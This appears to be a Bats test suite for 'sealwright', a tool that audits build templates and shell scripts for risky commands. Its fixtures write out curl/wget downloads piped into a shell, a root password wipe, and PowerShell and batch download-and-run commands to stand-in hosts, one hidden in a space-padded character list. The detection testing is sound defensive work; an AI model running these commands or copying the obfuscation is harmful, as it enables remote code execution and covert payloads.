load lib

redis_with() { # LINE: a template whose script is that line
	mkdir -p r
	cat >r/t.json <<-T
		{
		  "builders": [{"type": "rootfs", "suite": "bookworm"}],
		  "provisioners": [{
		    "type": "shell",
		    "inline": [
		      "set -e",
		      $(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$1")
		    ]
		  }]
		}
	T
	make_repo r
}

@test "a download that is piped into a shell is refused before anything is created" {
	commit=$(redis_with 'curl -fsSL https://example.org/i.sh | sh')
	run sealwright build --unsigned --out out --cache cache "git+file://$PWD/r@$commit#t.json"
	exits 1
	has "t.json:7:"
	has "RX001"
	[ ! -e out ]
	[ ! -e cache/work ]
}

@test "the same, verified against a digest of the repository, passes" {
	sum=$(printf x | sha256sum | cut -d' ' -f1)
	commit=$(redis_with "curl -fsSLo i.sh https://example.org/i.sh && echo '$sum  i.sh' | sha256sum -c - && sh i.sh")
	run sealwright audit "git+file://$PWD/r@$commit#t.json"
	exits 0
}

@test "findings come in every format" {
	commit=$(redis_with 'wget -qO- http://203.0.113.7/x | bash')
	for format in json sarif; do
		sealwright audit --format $format "git+file://$PWD/r@$commit#t.json" >out.$format || [ $? -eq 1 ]
		python3 -m json.tool out.$format >/dev/null
	done
	run sealwright audit --format jsonl "git+file://$PWD/r@$commit#t.json"
	exits 1
	echo "$output" | python3 -c '
import json, sys
lines = [json.loads(l) for l in sys.stdin]
assert lines
for l in lines:
    for key in ("rule", "severity", "file", "line", "column", "message"):
        assert key in l, key
assert any(l["rule"] == "RX001" and l["line"] == 7 for l in lines), lines'
	run sealwright audit --format junit "git+file://$PWD/r@$commit#t.json"
	has "<testsuite"
	run sealwright audit --format markdown "git+file://$PWD/r@$commit#t.json"
	has "RX001"
	python3 - <<-'P'
		import json
		sarif = json.load(open("out.sarif"))
		run = sarif["runs"][0]
		assert sarif["version"] == "2.1.0"
		ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
		assert len(ids) >= 40
		hit = [r for r in run["results"] if r["ruleId"] == "RX001"][0]
		region = hit["locations"][0]["physicalLocation"]["region"]
		assert region["startLine"] == 7
		assert "partialFingerprints" in hit
	P
}

@test "a script is audited by itself" {
	printf '#!/bin/sh\nset -e\nusermod -p "" root\n' >s.sh
	run sealwright audit --script s.sh
	exits 1
	has "s.sh:3:"
	printf '#!/bin/sh\napt-get update\napt-get install -y redis-server\n' >ok.sh
	run sealwright audit --script ok.sh
	exits 0
	run sealwright audit --script - <s.sh
	exits 1
}

@test "code that cannot be read does not pass" {
	printf 'if true; then\n  echo\n' >s.sh
	run sealwright audit --script s.sh
	exits 1
	has "s.sh:"
}

@test "every rule's own examples hold" {
	run sealwright policy test
	exits 0
	has " 0 wrong"
}

@test "there are at least forty rules in at least twelve groups" {
	sealwright policy list --json | python3 -c '
import json, re, sys
rules = json.load(sys.stdin)
groups = {re.match("[A-Z]+", r["id"]).group(0) for r in rules}
assert len(rules) >= 40 and len(groups) >= 12, (len(rules), groups)
assert all(r["bad"] and r["good"] for r in rules), [r["id"] for r in rules if not (r["bad"] and r["good"])]'
}

@test "a rule explains itself, an unknown one is an error" {
	run sealwright policy explain RX001
	exits 0
	has "Fires for"
	run sealwright policy explain NOPE1
	exits 3
}

@test "waivers are seen, and expire" {
	printf 'curl -fsSL https://example.org/i.sh | sh\n' >s.sh
	print=$(sealwright audit --script s.sh --format json | python3 -c '
import json, sys
d = json.load(sys.stdin)
print(next(f["fingerprint"] for f in d["findings"] if f["rule"] == "RX001"))')
	for year in 2020 2099; do
		cat >w$year.hcl <<-W
			waiver {
			  rule        = "RX001"
			  fingerprint = "$print"
			  reason      = "the vendor has no other way"
			  owner       = "security@example.org"
			  expires     = "$year-01-01"
			}
		W
	done
	run sealwright audit --script s.sh --policy w2099.hcl
	lacks "RX001  critical"
	has waived
	run sealwright audit --script s.sh --policy w2020.hcl
	exits 1
	has expired
}

@test "the shell parser answers by itself" {
	printf 'apt-get install "$X" redis\n' >s.sh
	run sealwright shell calls s.sh
	exits 0
	[ "$output" = '{"line":1,"argv":["apt-get","install",null,"redis"]}' ]
	run sealwright shell check s.sh
	exits 0
	printf 'for do done\n' >bad.sh
	run sealwright shell check bad.sh
	exits 1
	has "bad.sh:1:"
}

# codes TEXT: its characters' numbers, behind as many spaces as nobody looks at one by one.
codes() {
	local i
	for ((i = 0; i < 1500; i++)); do
		printf '32,'
	done
	for ((i = 0; i < ${#1}; i++)); do
		printf '%s%d' "${comma-}" "'${1:i:1}"
		local comma=,
	done
}

@test "PowerShell that is spelled out in a long list is read to its end, or not passed" {
	hidden='iwr http://x.example/i.ps1 | iex'
	printf '$s = [char[]](%s) -join ""\niex $s\n' "$(codes "$hidden")" >cast.ps1
	run sealwright audit --script cast.ps1
	exits 1
	has RX002
	printf '$s = -join ((%s) | %% { [char]$_ })\niex $s\n' "$(codes "$hidden")" >each.ps1
	run sealwright audit --script each.ps1
	exits 1
	has META004
	printf 'for %%%%i in (%s) do call :run %%%%i\nexit /b\n:run\n' "$(printf 'a%d ' {1..100})" >each.cmd
	printf 'if "%%1"=="a90" curl -o a.exe http://x.example/a.exe && a.exe\n' >>each.cmd
	run sealwright audit --script each.cmd
	exits 1
	has RX004
}
